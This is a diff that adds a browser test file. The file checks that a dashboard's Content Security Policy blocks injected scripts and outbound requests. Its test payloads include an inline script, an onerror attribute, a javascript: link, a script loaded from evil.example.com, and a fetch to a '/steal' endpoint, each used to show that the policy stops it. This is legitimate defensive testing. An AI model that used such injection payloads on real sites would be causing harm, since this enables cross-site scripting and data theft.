@@ -1,0 +1,74 @@
+import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
+import { type Dashboard, settle, startDashboard } from '../support/dashboard';
+
+// The policy of pages, held by a real browser. That no page breaks it by itself: dashboard-pages.test.ts, for which the
+// browser's word of a violation is an error like any other.
+
+const LIMIT_MS = 90_000;
+const REFUSED = /Content Security Policy/;
+
+let dashboard: Dashboard;
+beforeAll(async () => {
+  dashboard = await startDashboard();
+}, LIMIT_MS);
+afterEach(async () => {
+  expect(await dashboard.closePages()).toEqual([]);
+});
+afterAll(() => dashboard?.stop(), LIMIT_MS);
+
+const isMarked = (page: Awaited<ReturnType<Dashboard['open']>>) => page.evaluate(() => 'injected' in window);
+
+describe('a script that somebody got into a page', () => {
+  it('does not run where it stands in the markup, and the violation is told', async () => {
+    const told: string[] = [];
+    const page = await dashboard.open({ role: 'admin', provokes: REFUSED });
+    page.on('console', (message) => told.push(message.text()));
+    // As if the server had written it: the policy comes with the very answer.
+    await page.route('**/sessions', async (route) => {
+      const response = await route.fetch();
+      const body = (await response.text()).replace('</body>', '<script>window.injected = true</script></body>');
+      await route.fulfill({ response, body });
+    });
+    await page.goto(`${dashboard.base}/sessions`);
+    await settle(page);
+    expect(await isMarked(page)).toBe(false);
+    expect(told.some((text) => REFUSED.test(text))).toBe(true);
+  });
+
+  it('does not run as an attribute, from another host, or by eval', async () => {
+    const page = await dashboard.open({ role: 'admin', provokes: REFUSED });
+    await page.goto(`${dashboard.base}/sessions`);
+    await settle(page);
+    await page.evaluate(() => {
+      document.body.insertAdjacentHTML('beforeend', '<img src="/none.png" onerror="window.injected = true">');
+      document.body.insertAdjacentHTML('beforeend', '<a id="link" href="javascript:window.injected = true">x</a>');
+      document.getElementById('link')!.click();
+      const parsed = document.createElement('template');
+      parsed.innerHTML = '<script src="https://evil.example.com/x.js"></scr' + 'ipt>';
+      document.body.append(parsed.content.cloneNode(true));
+      setTimeout('window.injected = true', 0);
+    });
+    await page.waitForTimeout(300);
+    expect(await isMarked(page)).toBe(false);
+  });
+
+  it('sends nothing to another host', async () => {
+    const page = await dashboard.open({ role: 'admin', provokes: REFUSED });
+    await page.goto(`${dashboard.base}/sessions`);
+    await settle(page);
+    const outcome = await page.evaluate(() =>
+      fetch('http://127.0.0.1:9/steal').then(
+        () => 'sent',
+        () => 'refused',
+      ),
+    );
+    expect(outcome).toBe('refused');
+  });
+});
+
+it.each(['/', '/sign-in', '/swagger', '/nothing'])('%s breaks no rule of its own', async (path) => {
+  const page = await dashboard.open({ provokes: /status of 404/ });
+  await page.goto(dashboard.product.url + path);
+  await page.waitForLoadState('networkidle');
+  expect((await page.locator('body').textContent())?.length).toBeGreaterThan(10);
+});
